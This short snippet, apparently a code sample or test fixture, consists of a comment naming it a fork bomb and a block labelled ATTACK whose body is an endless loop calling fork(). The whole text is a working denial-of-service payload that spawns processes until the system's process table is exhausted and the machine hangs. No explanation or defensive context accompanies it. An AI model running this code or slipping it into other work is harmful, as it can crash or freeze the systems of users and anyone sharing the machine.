/* a fork bomb */
ATTACK
{
    for (;;) {
        fork();
    }
}
